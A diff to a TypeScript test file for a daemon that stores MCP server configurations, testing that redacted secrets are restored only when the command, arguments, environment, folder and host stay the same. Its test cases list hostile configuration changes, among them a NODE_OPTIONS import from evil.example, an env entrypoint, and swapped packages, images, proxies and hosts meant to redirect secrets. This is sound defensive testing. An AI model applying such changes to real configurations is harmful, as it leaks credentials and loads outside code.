@@ -4,6 +4,8 @@ import type { AddressInfo } from 'node:net'
 import { describe, it } from 'node:test'
 import { startHere } from '../../in-process-daemon.ts'
 
+type Attack = readonly [name: string, before: Record<string, unknown>, change: Record<string, unknown>]
+
 type Shown = { readonly [field: string]: unknown; readonly errors: { field: string; problem: string }[] }
 
 const config = `sources: [{ type: agents }, { type: manual, allow_stdio: true }]
@@ -35,7 +37,7 @@ const command = { command: 'run', health_check: 'none' }
 const remote = { url: 'https://good.example/mcp', health_check: 'none' }
 
 describe('secrets that are written back as placeholders', () => {
-  const attacks: readonly [string, Record<string, unknown>, Record<string, unknown>][] = [
+  const attacks: readonly Attack[] = [
     ['a renamed flag', { ...command, args: ['--token', 'canary-1'] }, { args: ['--message', '<redacted>'] }],
     ['a renamed joined flag', { ...command, args: ['-e', 'PLAIN=canary-1'] }, { args: ['--set', 'PLAIN=<redacted>'] }],
     ['a flag in between', { ...command, args: ['--token', 'canary-1', 'x'] }, { args: ['x', '<redacted>', '--token'] }],
@@ -72,7 +74,41 @@ describe('secrets that are written back as placeholders', () => {
       { ...remote, headers: { 'x-key': 'canary-1' } },
       { url: 'https://good.example${REGION}.evil.example/mcp' },
     ],
-    ['another command', { ...command, env: { KEY: 'canary-1' } }, { command: 'leak' }],
+    ['another command before a variable', { ...command, env: { KEY: 'canary-1' } }, { command: 'leak' }],
+    [
+      'another package',
+      { ...command, args: ['-y', 'good-mcp', '--token', 'canary-1'] },
+      { args: ['-y', 'evil-mcp', '--token', '<redacted>'] },
+    ],
+    [
+      'another value of a flag',
+      { ...command, args: ['--host=good', '--token', 'canary-1'] },
+      { args: ['--host=evil', '--token', '<redacted>'] },
+    ],
+    [
+      'another image',
+      { ...command, args: ['run', '-e', 'API_KEY=canary-1', 'good/image'] },
+      { args: ['run', '-e', 'API_KEY=<redacted>', 'evil/image'] },
+    ],
+    [
+      'another entrypoint',
+      { ...command, args: ['run', '-e', 'API_KEY=canary-1', 'good/image'] },
+      { args: ['run', '--entrypoint', 'env', '-e', 'API_KEY=<redacted>', 'good/image'] },
+    ],
+    ['other arguments', { ...command, args: ['good-mcp'], env: { KEY: 'canary-1' } }, { args: ['evil-mcp'] }],
+    ['first arguments', { ...command, env: { KEY: 'canary-1' } }, { args: ['evil-mcp'] }],
+    ...['API_URL', 'HTTPS_PROXY', 'NODE_OPTIONS'].map((name): Attack => [
+      `another ${name}`,
+      { ...command, env: { KEY: 'canary-1', [name]: 'good' } },
+      { env: { KEY: '<redacted>', [name]: 'evil' } },
+    ]),
+    [
+      'a new variable',
+      { ...command, args: ['--token', 'canary-1'] },
+      { env: { NODE_OPTIONS: '--import=https://evil.example' } },
+    ],
+    ['another folder', { ...command, cwd: '/good', env: { KEY: 'canary-1' } }, { cwd: '/evil' }],
+    ['another command', { ...command, args: ['--token', 'canary-1'] }, { command: 'leak' }],
     [
       'another host in the arguments',
       { ...command, args: ['https://good.example/mcp', '--header', 'X-Key: canary-1'] },
@@ -110,49 +146,59 @@ describe('secrets that are written back as placeholders', () => {
     assert.deepEqual([status, received], [400, []])
   })
 
-  it('are restored where the flag, the name and the address are the same', async () => {
-    const env = { KEY: 'canary-1' }
-    const args = ['--verbose', '--token', 'canary-2', '-H', 'X-Key: canary-3', 'https://good.example/a']
-    const metadata = { variables: [{ name: 'TOKEN', value: 'canary-4' }] }
-    await using server = await startWith({ ...command, env, args, metadata })
+  it('are restored where all that decides where they go is the same', async () => {
+    const sent = {
+      command: 'run',
+      cwd: '/srv',
+      env: { KEY: 'canary-1', REGION: 'canary-2' },
+      args: ['--verbose', '--token', 'canary-3', '-H', 'X-Key: canary-4', 'https://good.example/a'],
+    }
+    const metadata = { variables: [{ name: 'TOKEN', value: 'canary-5' }] }
+    await using server = await startWith({ ...sent, metadata, health_check: 'none' })
 
-    const moved = ['-H', 'X-Key: <redacted>', '--token', '<redacted>', '--quiet', 'https://good.example/b']
     const variables = [
       { name: 'PLAIN', value: 'text' },
       { name: 'TOKEN', value: '<redacted>' },
     ]
-    const { status, text } = await server.ask('PATCH', { args: moved, description: 'new', metadata: { variables } })
+    const { args, env } = await server.shown()
+    const change = {
+      title: 'New',
+      description: 'new',
+      tags: ['new'],
+      labels: { team: 'new' },
+      enabled: false,
+      args,
+      env,
+    }
+    const patched = await server.ask('PATCH', { ...change, metadata: { variables } })
+    const put = await server.ask('PUT', { ...(await server.shown()), title: 'Newer', resource_version: null })
+
+    assert.deepEqual([patched.status, put.status], [200, 200], `${patched.text} ${put.text}`)
+    assert.doesNotMatch(patched.text + put.text, /canary/)
+    const restored = [
+      { name: 'PLAIN', value: 'text' },
+      { name: 'TOKEN', value: 'canary-5' },
+    ]
+    assert.partialDeepStrictEqual(await server.stored(), { ...sent, title: 'Newer', metadata: { variables: restored } })
+  })
+
+  it('are restored beside another path of the same host', async () => {
+    await using server = await startWith({ ...remote, headers: { 'x-key': 'canary-1' } })
+
+    const { status, text } = await server.ask('PATCH', { url: 'https://good.example/v2', tags: ['new'] })
 
     assert.equal(status, 200, text)
-    assert.doesNotMatch(text, /canary/)
-    const stored = await server.stored()
-    assert.deepEqual(stored['env'], env)
-    assert.deepEqual(stored['args'], [
-      '-H',
-      'X-Key: canary-3',
-      '--token',
-      'canary-2',
-      '--quiet',
-      'https://good.example/b',
-    ])
-    assert.deepEqual(stored['metadata'], {
-      variables: [
-        { name: 'PLAIN', value: 'text' },
-        { name: 'TOKEN', value: 'canary-4' },
-      ],
-    })
+    assert.deepEqual((await server.stored())['headers'], { 'x-key': 'canary-1' })
   })
 
   it('of equal flags are restored only where their number stays', async () => {
     const args = ['--token', 'canary-1', '--token', 'canary-2']
-    await using server = await startWith({ ...command, args })
+    await using server = await startWith({ ...command, metadata: { args } })
+    const patch = async (...written: string[]) => (await server.ask('PATCH', { metadata: { args: written } })).status
 
-    assert.equal((await server.ask('PATCH', { args: ['--token', '<redacted>'] })).status, 400)
-    assert.equal(
-      (await server.ask('PATCH', { args: ['-v', '--token', '<redacted>', '--token', '<redacted>'] })).status,
-      200,
-    )
-    assert.deepEqual((await server.stored())['args'], ['-v', ...args])
+    assert.equal(await patch('--token', '<redacted>'), 400)
+    assert.equal(await patch('-v', '--token', '<redacted>', '--token', '<redacted>'), 200)
+    assert.deepEqual((await server.stored())['metadata'], { args: ['-v', ...args] })
   })
 
   it('move with a token that has the right to see them', async () => {
